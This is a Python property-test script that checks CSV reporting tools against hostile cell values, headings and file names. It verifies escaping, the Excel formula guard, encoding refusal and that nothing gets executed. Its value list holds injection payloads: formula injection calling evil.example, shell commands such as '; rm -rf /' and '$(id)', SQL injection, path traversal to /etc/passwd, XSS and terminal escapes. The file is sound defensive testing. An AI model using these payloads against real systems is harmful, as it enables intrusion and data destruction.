#!/usr/bin/env python3
"""Cells, headings and file names that mean harm, through every tool and format: what is data stays data.

    python3 tests/property/hostile_cells.py       prints TAP; exit status 1 if anything failed

The values are those below and, where it is, the shared list. Mail and calendars are tried by tests/e2e/fuzz.py, pages by report.py. Settings as in walk.py.
"""
import csv
import functools
import io
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from collections import Counter, namedtuple

import svg
from walk import BUILD, ROOT, SHARED, WORK, Failure, Tap

# pylint: disable=line-too-long
OWN = [
    # formulas, and what only looks like one
    "=1+2", "=cmd|' /C calc'!A0", "=IMPORTXML(\"http://evil.example\",\"//a\")", "+A1", "+2+3", "-2+3", "-A1", "@SUM(A1:A9)", "\uff0b1+1", "\uff0d1", "\uff20A1", "\uff1dA1", "-",
    "--", "-x", "+", "=", "@", "=\"\"&A1", "-12.5", "+7", "-1.5E+3", "-$5", "(5)", "5-", "'=1+1", "''", "'", "- 1", "-1,2", "+A1+B2", "-ABC12", "-USD12",
    # delimiters, quotes, rows
    ",", ";", "\t|\t", "|", "\"", "\"\"", "\"a\",\"b", "a\"b", "a\nb", "a\rb", "a\r\nb,c", "a\n\nb", "sep=;", "a;b|c\td,e", "\\", "\\n", "\\\"", "{}", "{product}", "{{", "}",
    # what a terminal obeys
    "\x1b[31mred\x1b[m", "\x1b]0;title\x07", "\x1bP1$r\x1b\\", "a\x1b[1Ab", "a\rb\x1b[K", "\x7f", "a\x08b", "a\x0cb", "a\x0bb", "\x01", "\u0085", "\u0090x\u009c", "\u009b2J", "a\x0eb\x0f",
    # what hides, joins or turns round
    "a\u202eb", "a\u202db\u202c", "\u2067a\u2069", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\u00adb", "a\u061cb", "a\u180eb", "a\u034fb", "a\u115fb", "a\u3164b", "a\uffa0b",
    "a\u2028b", "a\u2029b", "a\ufeffb", "a\ufff9b\ufffac\ufffb", "a\ufe0fb", "a\U000e0041b", "a\U000e0100b", "a\U0001d173b", "a\u17b4b", "a\u206ab",
    # markup
    "<script>alert(1)</script>", "]]>", "<!--", "&#x1b;", "&amp;", "\" onload=\"x", "'><svg/onload=x>", "</title></svg>", "<?xml?>", "&lt;b&gt;", "\ufffe", "\uffff", "\U0001ffff",
    # commands of workflows, shells, databases, formats
    "::error file=x::y", "a\n::set-output name=x::y", "%0A::error::x", "%25", "%0a", "##[group]x", "x::stop-commands::y", "$(id)", "`id`", "; rm -rf /", "| tee /tmp/pwned", "' OR 1=1 --", "%s%s%n", "${HOME}",
    # names of files
    "../../etc/passwd", "/tmp/pwned", "..", ".", "a/b", "C:\\x", "con", "-o", "--output=x", "~", "*", "x\u0000"[:1] + "y", "nul", "a" * 250, "\u65e5\u672c" * 40,
    # letters of all kinds
    "\u0410cme", "\u0130stanbul", "stra\u00dfe", "e\u0301", "\u00e9", "\U0001f600", "\u0e33", "\ud55c\uae00", "\u0627\u0644\u0639", "\u05d0\u05d1", "a" * 5000, "null", "true", "NaN", "1e5", "007", "3-4", "MAR1",
]
BLANKS = " \t\n\v\f\r"
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
NUMBER = re.compile(r"[+-]? ?[$]?([0-9]+|[0-9]{1,3}(,[0-9]{3})+)([.][0-9]*)?([Ee][+-]?[0-9]+)?")
HIDDEN = re.compile("[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0"
                    "\ufff0-\ufffb\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]")
COLOR = re.compile("\x1b\\[(1;3[135])?m")

# A tool's text columns, what else a row has, and its formats.
Subject = namedtuple("Subject", "command text others formats")
ITEM = {"current_volume": 10, "current_price": 5, "current_cost": 3, "expected_volume": 12, "expected_price": 5, "expected_cost": 3}
BUNDLE = {"cost": 3, "standalone_volume": 10, "standalone_price": 5, "bundle_volume": 10, "bundle_price": 4}
DUE = {"id": "{n}", "due": "2026-11-24", "email": "ann@example.com"}
SUBJECTS = [
    Subject("negpkg-build", "account product_line product customer_part unit alternative alternative_source condition note folder strategy nobody_knows_this", ITEM, ["csv"]),
    Subject("margin-walk --by=account,product_line,product --report-currency=USD", "account product_line product", ITEM, ["csv", "json", "text"]),
    Subject("margin-walk --by=product --long --report-currency=USD", "product", ITEM, ["csv", "json"]),
    Subject("negpkg-validate -q -T ./rules.csv --format=csv", "account product_line product phase owner source", ITEM, ["csv", "json", "text", "github"]),
    Subject("bundle-check", "bundle account product_line product owner", BUNDLE, ["csv", "json", "text"]),
    Subject("calendar-remind --today=2026-11-23", "account period milestone subject owner note", DUE, ["csv", "text"]),
    Subject("calendar-remind --today=2026-11-23 --list", "account period product_line milestone subject promised_to owner status decision note", DUE, ["csv", "text"]),
    Subject("calendar-remind --today=2026-11-23 --season", "milestone owner", DUE, ["text"]),
    Subject("calendar-remind --today=2026-11-23 --check", "account milestone owner", {**DUE, "due": "2026-11-01", "date_source": "planned"}, ["text"]),
]
RULES = "rule,severity,check,message\nr,error,0,{account} ({phase})\n"


def expect(condition, kind, *details):
    if not condition:
        raise Failure(kind, "\n".join(map(ascii, details)))


def values():
    """Each once, as a cell holds it: without the blanks around it."""
    shared = [value for _, value in svg.hostile_values()] if (SHARED / "hostile.csv").is_file() else []
    return list(dict.fromkeys(value.strip(BLANKS) for value in shared + OWN if value.strip(BLANKS)))


def folds(heading):
    return re.sub("[ \t\n\v\f\r_\u00a0\u00ad\u2000-\u200b\u2010-\u2015\u202f\u3000-]", "", heading).lower().replace("%", "pct")


GOOD = values()
BAD = ["Caf\udce9", "\udced\udca0\udc80", "\udcff", "a\udcc3"]  # bytes that aren't UTF-8, as surrogates


# --- running, in a folder where nothing else may come to be

FOLDER = WORK / "folder"


def run(command, sheets, status=None, **environment):
    """(status, result, messages), as text in which stray bytes are surrogates."""
    for name, data in sheets.items():
        (FOLDER / name).write_bytes(data)
    before = set(FOLDER.parent.rglob("*"))
    program, *arguments = command.split() if isinstance(command, str) else command
    done = subprocess.run([str(BUILD / program), *arguments], cwd=FOLDER, capture_output=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
                          env={**os.environ, "HOME": str(FOLDER), "TMPDIR": str(FOLDER), "NEGPKG_TEMPLATES": str(ROOT / "share/templates"), **environment})
    expect(set(FOLDER.parent.rglob("*")) == before, "files came to be", set(FOLDER.parent.rglob("*")) ^ before)
    expect(all((FOLDER / name).read_bytes() == data for name, data in sheets.items()), "a sheet is another one")
    for name in sheets:
        (FOLDER / name).unlink()
    result, said = (out.decode("utf-8", "surrogateescape") for out in (done.stdout, done.stderr))
    is_harmless(COLOR.sub("", said))
    expect(status is None or done.returncode in status, "exit status", done.returncode, said[-2000:])
    return done.returncode, result, said


def quoted(cells):
    return ",".join('"' + str(cell).replace('"', '""') + '"' for cell in cells) + "\n"


def sheet(headings, rows):
    return (quoted(headings) + "".join(map(quoted, rows))).encode("utf-8", "surrogateescape")


def good_of(subject):
    """Milestones are named by more than hyphens."""
    return [value for value in GOOD if folds(value) or "milestone" not in subject.text]


def sheet_of(subject, cells):
    """A row for each value, which stands in all text columns; further columns beside."""
    text = subject.text.split()
    others = {name: [str(value).format(n=n) for n in range(len(cells))] for name, value in subject.others.items()}
    return sheet([*text, *others], [[value] * len(text) + [column[n] for column in others.values()] for n, value in enumerate(cells)])


def answer(subject, cells, *options):
    command = [*subject.command.split(), *options, "sheet.csv"]
    return run(command, {"sheet.csv": sheet_of(subject, cells), "rules.csv": RULES.encode()}, status=(0, 1))[1]


# --- what must hold

def is_harmless(text):
    """No character that a terminal obeys, or that hides, joins or turns round others."""
    for c in text:
        expect(c == "\n" or unicodedata.category(c) not in ("Cc", "Cs"), "a control, or a byte that is no text", c, text[:1000])
    expect(not HIDDEN.search(text), "what can't be seen", HIDDEN.search(text), text[:1000])


def table(text, delimiter=","):
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def whole_rows(subject, rows):
    """The text columns of those rows that have them all."""
    cells = [tuple(row[name] for name in subject.text.split()) for row in rows]
    return Counter(row for row in cells if all(row))


def are_all(subject, rows, wanted):
    """Each value stands in all text columns of a row."""
    found, wanted = whole_rows(subject, rows).keys(), {(value,) * len(subject.text.split()) for value in wanted}
    expect(found == wanted, "other cells", list(found - wanted)[:3], list(wanted - found)[:3])


def guarded(value):
    """As --excel writes it: an apostrophe before what would be run."""
    return "'" + value if value[0] in SIGNS and not NUMBER.fullmatch(value) else value


def comes_back(subject, *options, delimiter=","):
    """Through CSV, byte for byte."""
    good = good_of(subject)
    are_all(subject, table(answer(subject, good, *options), delimiter), good)


def is_guarded(subject):
    good = good_of(subject)
    text = answer(subject, good, "--excel")
    expect(text[0] == "\ufeff", "no byte order mark")
    are_all(subject, table(text[1:]), [guarded(value) for value in good])
    for row in table(text[1:]):
        for name, cell in row.items():
            expect(not cell or cell[0] not in SIGNS or NUMBER.fullmatch(cell), "a formula", name, cell)


def is_text_only(subject, form):
    """Harmless, and as many lines as with harmless names: none is forged."""
    good = good_of(subject)
    text, plain = (answer(subject, cells, f"--format={form}") for cells in (good, [f"name {n}" for n in range(len(good))]))
    is_harmless(text)
    expect(text.count("\n") == plain.count("\n"), "other number of lines", text.count("\n"), plain.count("\n"))
    if form == "github":
        for line in text.splitlines():
            expect(re.fullmatch(r"::error file=sheet\.csv,line=[0-9]+,col=[0-9]+,title=r::(?!.*%(?!25)).*", line), "another command", line)


def is_json(subject):
    rows = json.loads(answer(subject, GOOD, "--format=json").encode("utf-8", "strict"))
    are_all(subject, rows, GOOD)


def is_refused(subject):
    """Bytes that are no text, one sheet each: an error, which negpkg-validate makes a finding; calendar-remind tells what it read before."""
    for value in BAD:
        status, result, said = run([*subject.command.split(), "sheet.csv"], {"sheet.csv": sheet_of(subject, [value]), "rules.csv": RULES.encode()})
        if subject.command.startswith("negpkg-validate"):
            expect(status == 1 and "encoding-error" in result, "not refused", value, status, result)
        else:
            expect(status == 2 and result.count("\n") <= subject.command.startswith("calendar") and "which isn't UTF-8" in said and "iconv" in said, "not refused", value, status, said)


def is_no_number(subject):
    """In a column of numbers or dates: messages that are harmless, one line each."""
    column = next(name for name in subject.others if name != "id")
    worse = subject._replace(others={**subject.others, column: None})
    rows = [[f"name {n}"] * len(subject.text.split()) + [str(value).format(n=n) if name != column else cell for name, value in worse.others.items()]
            for n, cell in enumerate(GOOD)]
    for options in ([], ["--color=always"], ["--hide-values"]):
        said = run([*subject.command.split(), "--max-errors=10000", *options, "sheet.csv"],
                   {"sheet.csv": sheet([*subject.text.split(), *worse.others], rows), "rules.csv": RULES.encode()}, status=(1, 2))
        lines = COLOR.sub("", said[2] or said[1]).splitlines()
        expect(len(lines) > len(GOOD) // 2, "few messages", len(lines))
        for line in lines:
            expect(re.match(r"sheet\.csv:[0-9]+(:[0-9]+)?: (error|warning): |[a-z-]+: [0-9]+ more ", line) or "," in line, "a forged line", line)


# --- headings, file names, options

HEADINGS = list({folds(value): value for value in GOOD if folds(value)}.values())


def headings_come_back():
    """Columns that nobody knows are passed on under their names."""
    data = sheet(["product", *ITEM, *HEADINGS], [["P", *ITEM.values(), *HEADINGS]])
    rows = [row for row in table(run("negpkg-build sheet.csv", {"sheet.csv": data}, status=(0,))[1]) if row["level"] == "item"]
    for heading in HEADINGS:
        expect(rows[0].get(heading) == heading, "no such column", heading)


def headings_are_said():
    for subject in SUBJECTS:
        text = subject.text.split()
        rows = [["x"] * len(text) + [str(value).format(n=0) for value in subject.others.values()] + ["y"] * len(HEADINGS)]
        for last in ([], HEADINGS[:1]):  # the second time one stands twice
            data = sheet([*text, *subject.others, *HEADINGS, *last], [row + ["y"] * len(last) for row in rows])
            run([*subject.command.split(), "--max-errors=10000", "sheet.csv"], {"sheet.csv": data, "rules.csv": RULES.encode()})


def headings_are_mapped():
    for heading in HEADINGS:
        data = sheet(["product_line", heading, *ITEM], [["L", "P", *ITEM.values()]])
        rows = table(run(["negpkg-build", f"--map=product={heading}", "sheet.csv"], {"sheet.csv": data}, status=(0,))[1])
        expect(rows[-1]["product"] == "P", "isn't the product", heading)


def groups_by_heading():
    for heading in HEADINGS[::4]:
        if "," not in heading and len(heading) < 300:
            data = sheet(["product", heading, *ITEM], [["P", "G", *ITEM.values()]])
            for form in ("csv", "json", "text"):
                result = run(["margin-walk", f"--by={heading}", f"--format={form}", "sheet.csv"], {"sheet.csv": data})[1]
                if form == "text":
                    is_harmless(result)


def file_names():
    """Names that a file can have, stray bytes included."""
    names = [value for value in GOOD + BAD if "/" not in value and len(value.encode("utf-8", "surrogateescape")) < 250 and value not in (".", "..", "-")]
    return list(dict.fromkeys(names))


def names_come_back():
    """In the column `source`, in findings, and harmless in messages."""
    names = file_names()
    sheets = {name: sheet(["product", *ITEM], [[f"P{n}", *ITEM.values()]]) for n, name in enumerate(names)}
    rows = table(run(["negpkg-build", "-q", "--", *names], sheets, status=(0,))[1])
    found = {row["source"] for row in rows if row["level"] == "item"}
    expect(found == {f"{name}:2" for name in names}, "other sources", found ^ {f"{name}:2" for name in names})
    for form in ("csv", "json", "text", "github"):
        text = run(["negpkg-validate", "-q", "-T", "./strict.csv", f"--format={form}", "--", *names],
                   {**sheets, "strict.csv": b"rule,severity,check,message\nr,error,0,m\n"}, status=(1,))[1]
        if form == "csv":
            expect([row["file"] for row in table(text)] == names, "other files")
        elif form == "json":
            expect([row["file"] for row in json.loads(text.encode("utf-8", "strict"))] == [re.sub("[\udc80-\udcff]", "\ufffd", name) for name in names], "other files")
        else:
            is_harmless(text)
            expect(text.count("\n") == len(names), "other number of lines", text.count("\n"), len(names))


def names_are_said():
    """Files that are bad, or aren't there."""
    for subject in SUBJECTS:
        for name in file_names()[::5]:
            run([*subject.command.split(), "--", name, f"{name}x"], {name: b"product\nP\n", "rules.csv": RULES.encode()}, status=(1, 2))


def options_are_said():
    """As values, and as names of options; with a value that no option takes."""
    options = ["--report-currency={}", "--format={}", "--decimal={}", "--map={}", "--places={}", "-D{}", "--{}", "--excel={}", "--output=nowhere/{}", "-{}"]
    for value in (GOOD + BAD)[::7] + ["\x1b[31m"]:
        for program in ("negpkg-build", "margin-walk"):
            for option in options:
                run([program, option.format(value), "nowhere.csv"], {}, status=(0, 2))


def pictures():
    svg.picture(svg.sheet(svg.named(GOOD)))


def nothing_was_run():
    expect(list(FOLDER.iterdir()) == [], "left behind", list(FOLDER.iterdir()))
    expect(not os.path.exists("/tmp/pwned"), "a command was run")


def main():
    tap = Tap()
    FOLDER.mkdir(parents=True)
    if os.path.exists("/tmp/pwned"):
        os.unlink("/tmp/pwned")
    if not (SHARED / "hostile.csv").is_file():
        tap.skip("the shared list", f"no {SHARED / 'hostile.csv'}")
    for subject in SUBJECTS:
        def test(what, check, *arguments, **options):
            tap.run(f"{len(GOOD)} values: {subject.command}: {what}", functools.partial(check, subject, *arguments, **options))
        if "csv" in subject.formats:
            test("csv comes back", comes_back)
            test("-D';' comes back", comes_back, "-D;", delimiter=";")
            test("-D tab comes back", comes_back, "-Dtab", delimiter="\t")
            test("--excel runs nothing", is_guarded)
            test("bytes that are no text", is_refused)
            test("where a number or a day belongs", is_no_number)
        if "json" in subject.formats:
            test("json", is_json)
        for form in subject.formats:
            if form in ("text", "github"):
                test(form, is_text_only, form)
    for what, check in (("svg", pictures), ("headings are passed on", headings_come_back), ("headings in messages", headings_are_said),
                        ("headings that --map names", headings_are_mapped), ("headings that --by names", groups_by_heading), ("names of files", names_come_back), ("names of bad files", names_are_said),
                        ("options", options_are_said), ("nothing was written or run", nothing_was_run)):
        tap.run(what, check)
    print(f"1..{tap.number}")
    shutil.rmtree(WORK)
    return 1 if tap.failed else 0


if __name__ == "__main__":
    sys.exit(main())
